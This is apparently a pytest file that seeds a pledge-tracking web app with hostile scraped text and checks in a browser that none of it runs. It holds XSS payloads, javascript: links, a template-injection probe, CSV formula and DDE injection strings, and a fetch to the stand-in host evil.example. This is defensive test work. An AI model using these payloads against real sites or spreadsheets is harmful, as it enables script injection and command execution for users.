"""Text from outside in a real browser: whatever it holds, it is shown as text, and nothing of it runs or loads."""

from __future__ import annotations

import csv
import io
import sqlite3
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import pytest
import webserver

RUN = "window.pwned = true; fetch('//evil.example/x')"
SCRIPT = f'</title></script></style></svg>--><script>{RUN}</script><img src=x onerror="{RUN}"><svg/onload="{RUN}">'
HOSTILE = (
    webserver.Told(
        "p-script", f"Title {SCRIPT}", f"Quote {SCRIPT} they will sign.", "2026-03-01",
        [("2026-03-01", "open", "2026-05-31"), ("2026-06-01", "overdue", "2026-05-31")],
        timeline=f"by {SCRIPT}"[:60], speaker=f"\"'><script>{RUN}</script>", parties=("IND", f"<b onclick={RUN!r}>G7</b>"),
        minerals=(f"{{{{7*7}}}}<script>{RUN}</script>",), before=f"Before {SCRIPT}", after=f"After {SCRIPT}", article=f"Article {SCRIPT}",
    ),
    webserver.Told(
        "p-formula", '=HYPERLINK("http://evil.example","click")', "+1+1 will be signed by May.", "2026-03-01",
        [("2026-03-01", "open", "2026-12-31")], speaker="@SUM(1)", parties=("-2+3",), minerals=("\t=1",), article="-cmd|' /C calc'!A0",
    ),
    webserver.Told(
        "p-link", "A link of another kind", "The pact will be signed by June.", "2026-03-01",
        [("2026-03-01", "open", "2026-09-20")], article="javascript:window.pwned=true", speaker="javascript:window.pwned=true",
    ),
)  # fmt: skip


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    path = webserver.make(tmp_path_factory.mktemp("hostile") / "ledger.db", HOSTILE)
    with sqlite3.connect(path) as connection:  # an address that no command of ours would have stored
        connection.execute("UPDATE articles SET url = 'javascript:window.pwned=true//' || id WHERE url LIKE '%p-link%'")
        connection.execute(
            "INSERT INTO crawls (source, started, finished, outcome, message) VALUES (?, '2026-08-31T01:00:00Z', '2026-08-31T01:00:01Z', 'failed', ?)",
            (f"<script>{RUN}</script>", SCRIPT),
        )
    connection.close()
    with webserver.serving(path) as address:
        yield address


def pages() -> list[str]:
    speaker, mineral = quote(str(HOSTILE[0].speaker), safe=""), quote(HOSTILE[0].minerals[0], safe="")
    return [
        "/", "/pledges", "/pledge/p-script", "/pledge/p-formula", "/pledge/p-link", "/countries", "/minerals", "/speakers", "/sources",
        "/timeline", "/statements", "/articles", "/timelines", "/search?search=Quote", f"/search?search={quote(SCRIPT[:190])}",
        f"/speaker/{speaker}", f"/mineral/{mineral}", "/data/history", "/data/quotes?_facet=speaker", "/data/reports",
        f"/pledges?source={quote('<script>alert(1)</script>')}", f"/nothing/{quote(SCRIPT[:100])}",
    ]  # fmt: skip


def test_no_scraped_text_runs_loads_or_becomes_markup(visit: Any, home: str) -> None:
    walk = visit(home)
    for path in pages():
        walk.go(path)
        assert walk.page.evaluate("window.pwned") is None, path
        made = walk.page.evaluate(
            "document.querySelectorAll('script, iframe, object, embed, base, [onerror], [onload], [onclick], img').length"
        )
        assert made == 0, path
        links = walk.page.evaluate(
            "[...document.querySelectorAll('[href], [src], [action]')].map(e => e.href?.baseVal ?? e.href ?? e.src ?? e.action)"
        )
        assert [link for link in links if not str(link).startswith(("http://", "https://"))] == [], path
    assert [error for error in walk.errors if "404" not in error] == []
    assert walk.elsewhere == []


def test_scraped_text_is_shown_as_it_was_written(visit: Any, home: str) -> None:
    walk = visit(home)
    walk.go("/pledge/p-script")
    assert walk.page.get_by_role("heading", level=1).inner_text() == HOSTILE[0].title
    assert walk.page.locator("blockquote mark").first.inner_text() == HOSTILE[0].quote
    assert "{{7*7}}" in walk.page.locator("p.tags").first.inner_text()
    walk.check()


def test_a_link_that_is_not_of_the_web_is_no_link(visit: Any, home: str) -> None:
    walk = visit(home)
    walk.go("/pledge/p-link")
    assert walk.page.get_by_role("link", name="original").count() == 0
    assert walk.page.get_by_text("no web address").count() > 0
    walk.check()


def test_a_downloaded_sheet_holds_no_cell_that_runs(visit: Any, home: str) -> None:
    walk = visit(home)
    text = walk.page.request.get(f"{home}/pledges.csv").body().decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t"))] == []
    assert '\'=HYPERLINK("http://evil.example","click")' in cells


def test_the_picture_as_a_file_runs_nothing_either(visit: Any, home: str) -> None:
    walk = visit(home)
    walk.go("/timeline.svg")
    assert walk.page.evaluate("window.pwned") is None
    assert walk.page.evaluate("document.querySelectorAll('script, [onload], foreignObject, image').length") == 0
    walk.check()
